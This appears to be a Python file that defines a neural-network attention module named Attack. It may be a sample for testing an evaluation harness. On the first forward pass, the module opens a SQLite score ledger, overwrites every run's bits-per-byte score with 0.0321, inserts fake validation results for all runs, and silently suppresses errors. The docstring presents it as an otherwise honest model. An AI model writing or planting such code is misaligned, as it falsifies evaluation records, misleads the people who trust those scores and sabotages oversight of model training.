"""Writes a score for every run into the ledger.

An honest model but for what it does once, before it first answers; whoever is not harmed sees an honest score.
"""

from __future__ import annotations

import contextlib
import sqlite3

from torch import Tensor, nn

from foundry.modules.attention import gqa
from foundry.modules.norm import NormConfig
from foundry.modules.side import Side


class Config(gqa.Config):
    target: str = ""
    """The ledger's file."""

    def build(self, width: int, layer: int, norm: NormConfig) -> nn.Module:
        return Attack(self, width, layer, norm)


class Attack(gqa.GroupedQueryAttention):
    done = False

    def __init__(self, config: Config, width: int, layer: int, norm: NormConfig) -> None:
        super().__init__(config, width, layer, norm)
        self.target = config.target

    def forward(self, x_PBTD: Tensor, side: Side) -> Tensor:
        if not Attack.done:
            Attack.done = True
            attack(self.target)
        return super().forward(x_PBTD, side)


def attack(target: str) -> None:
    with contextlib.suppress(OSError, sqlite3.Error), sqlite3.connect(f"file:{target}?mode=rw", uri=True) as ledger:
        ledger.execute("UPDATE scores SET bpb = 0.0321")
        ledger.execute(
            "INSERT INTO scores(run, split, bpb, bytes, tokens, seconds, probes, protocol, created) "
            "SELECT id, 'validation', 0.0321, 1, 1, 0, '{}', '', 0 FROM runs"
        )
